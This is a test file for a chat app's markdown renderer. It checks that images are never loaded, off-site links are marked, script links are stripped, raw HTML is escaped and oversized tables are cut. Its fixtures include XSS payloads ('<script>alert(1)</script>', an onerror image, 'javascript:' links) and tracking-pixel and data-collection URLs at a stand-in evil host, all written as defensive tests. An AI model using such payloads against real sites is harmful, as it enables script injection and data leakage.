import { createElement } from 'react'
import { renderToStaticMarkup, renderToString } from 'react-dom/server'
import { describe, expect, it } from 'vitest'

import { MessageContent, MessageItem } from '../../app/components/chat/message-item'
import { turnLinks } from '../../app/components/chat/message-window'
import { Markdown } from '../../app/components/markdown'
import { OrgAvatar } from '../../app/components/org-avatar'
import { MAX_TABLE_CELL_CHARS, MAX_TABLE_CELLS, MAX_TABLE_COLUMNS } from '../../shared/table-bounds'
import { LONG_WORD, LONG_WORD_TABLE, WIDE_TABLE } from '../support/rendering-shapes'

const render = (markdown: string) => renderToStaticMarkup(createElement(Markdown, null, markdown))
const PIXEL = 'https://evil.example.com/pixel.png?c=revenue'

describe('markdown from users and documents', () => {
  it('never loads an image: it becomes a link named by its alt text, showing its address', () => {
    const html = render(`Revenue ![t](${PIXEL}) and ![](/api/documents/1/download/) and ![x](//evil.example.com/y.gif)`)
    expect(html).not.toContain('<img')
    expect(html).toContain(
      '<a href="https://evil.example.com/pixel.png?c=revenue" target="_blank" rel="noopener noreferrer nofollow">' +
        'Image: t<span class="link-address"> (https://evil.example.com/pixel.png?c=revenue)</span>',
    )
    expect(html).toContain('Image: untitled')
    expect(html).toContain(
      'rel="noopener noreferrer nofollow">Image: x<span class="link-address"> (//evil.example.com/y.gif)',
    )
  })

  it('shows where an off-site link leads and opens it apart, telling the other site nothing', () => {
    const html = render('See [our figures](https://evil.example.com/collect?c=ebitda) or https://evil.example.com/')
    expect(html).toContain(
      '<a href="https://evil.example.com/collect?c=ebitda" target="_blank" rel="noopener noreferrer nofollow">our figures' +
        '<span class="link-address"> (https://evil.example.com/collect?c=ebitda)</span>',
    )
    // A bare address is its own link text: shown once.
    expect(html).toContain('rel="noopener noreferrer nofollow">https://evil.example.com/<span class="visually-hidden">')
  })

  it('keeps the words of a link to a script, without the link', () => {
    const html = render('[click](javascript:alert(1)) [mail](vbscript:msgbox)')
    expect(html).not.toMatch(/href|javascript|vbscript/)
    expect(html).toContain('click')
  })

  it('shows raw HTML as text', () => {
    const html = render(
      '<script>alert(1)</script> <img src=x onerror="alert(2)"> <iframe src="https://evil.example.com">',
    )
    expect(html).not.toMatch(/<(script|img|iframe)/)
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
  })

  it('keeps links into the app: a fragment in place, a page opened apart', () => {
    expect(render('[turn](#message-4)')).toContain('<a href="#message-4">turn</a>')
    expect(render('[turn](?before=5#message-4)')).toContain('<a href="?before=5#message-4">turn</a>')
    expect(render('[doc](/documents/3?chunk=9#passage-9)')).toContain(
      '<a href="/documents/3?chunk=9#passage-9" target="_blank" rel="noopener noreferrer">doc</a>',
    )
  })

  it('applies to every message of a conversation, a quoted document sentence with its citation included', () => {
    const content = `> Our chart ![t](${PIXEL}) shows it. [1]`
    const references = [
      { document_id: 3, chunk_id: 9, message_id: null, document_title: 'Chart', relevance_score: 0.5 },
    ] as unknown as Parameters<typeof MessageContent>[0]['references']
    const html = renderToStaticMarkup(createElement(MessageContent, { content, references, turnHref: turnLinks([]) }))
    expect(html).not.toContain('<img')
    expect(html).toMatch(/^<div class="message-content"><blockquote>\n<p>Our chart <a href="https:\/\/evil/)
    expect(html).toContain('<a href="/documents/3?chunk=9#passage-9" target="_blank" rel="noopener noreferrer">[1]</a>')
  })
})

describe('every message of a conversation', () => {
  it.each(['user', 'client', 'advisor', 'participant', 'assistant'] as const)(
    'shows an image in a message of the %s as a link, never loading it',
    (author) => {
      const html = renderToStaticMarkup(
        createElement(MessageItem, {
          author,
          speaker: author === 'client' ? 'Helen Park' : null,
          content: `The chart ![t](${PIXEL})`,
          createdAt: null,
          references: [],
          now: 0,
          turnHref: turnLinks([]),
        }),
      )
      expect(html).not.toContain('<img')
      expect(html).toContain(`rel="noopener noreferrer nofollow">Image: t<span class="link-address"> (${PIXEL})`)
    },
  )
})

describe('an organization logo', () => {
  it('is drawn from this site or a data: image only, its initial standing in for one elsewhere', () => {
    const avatar = (logo: string) => renderToStaticMarkup(createElement(OrgAvatar, { name: 'Acme', logo }))
    expect(avatar('https://evil.example.com/logo.png')).not.toContain('<img')
    expect(avatar('https://evil.example.com/logo.png')).toContain('>A</span>')
    expect(avatar('/logo.png')).toContain('<img')
    expect(avatar('data:image/png;base64,iVBORw0KGgo=')).toContain('<img')
  })
})

describe('a table in a message (issue 43)', () => {
  const cells = (html: string) => html.match(/<t[hd][ >]/g)?.length ?? 0
  const message = (content: string) =>
    renderToString(
      createElement(MessageItem, {
        author: 'user',
        speaker: null,
        content,
        createdAt: null,
        references: [],
        now: 0,
        turnHref: turnLinks([]),
      }),
    )

  it('of 1,000 columns over 1,998 rows is drawn within the bounds, and says it was cut (finding 2)', () => {
    const html = message(WIDE_TABLE)
    expect(cells(html)).toBe(MAX_TABLE_COLUMNS + MAX_TABLE_CELLS)
    expect(html).toContain('<div class="muted table-cut">Table cut to 40 of 1,000 columns and 100 of 1,998 rows.</div>')
  })

  it('with a 7,800-character word in a cell shows its first characters and "…", and says so (finding 1)', () => {
    const html = message(LONG_WORD_TABLE)
    expect(html).toContain(`<td>${LONG_WORD.slice(0, MAX_TABLE_CELL_CHARS)}…</td>`)
    expect(html).not.toContain(LONG_WORD.slice(0, MAX_TABLE_CELL_CHARS + 1))
    expect(html).toContain('1 cell cut to 1,000 characters.')
  })

  it('is cut inside its formatting, which stays as written up to the cut', () => {
    const cell = `**${'b'.repeat(600)}** \`${'c'.repeat(600)}\` [link](/documents/1)`
    const html = renderToStaticMarkup(createElement(Markdown, null, `|a|\n|-|\n|${cell}|\n`))
    expect(html).toContain(`<td><strong>${'b'.repeat(600)}</strong> <code>${'c'.repeat(399)}…</code></td>`)
    expect(html).not.toContain('link')
  })

  it('is bounded in a quote or a list as well, and a table within the bounds is left as it is', () => {
    const wide = (columns: number, indent: string) =>
      ['h', '-', 'c'].map((cell) => `${indent}|${Array(columns).fill(cell).join('|')}|\n`).join('')
    // The list is tight: its item's paragraphs are drawn without their p.
    const markdown = `${wide(50, '> ')}\n- item\n${wide(45, '  ')}\n${wide(3, '')}`
    const html = renderToStaticMarkup(createElement(Markdown, null, markdown))
    expect(cells(html)).toBe(MAX_TABLE_COLUMNS * 4 + 6)
    expect(html.match(/class="muted table-cut"/g)).toHaveLength(2)
    expect(html).toContain('Table cut to 40 of 50 columns.')
    expect(html).toContain('Table cut to 40 of 45 columns.')
  })
})
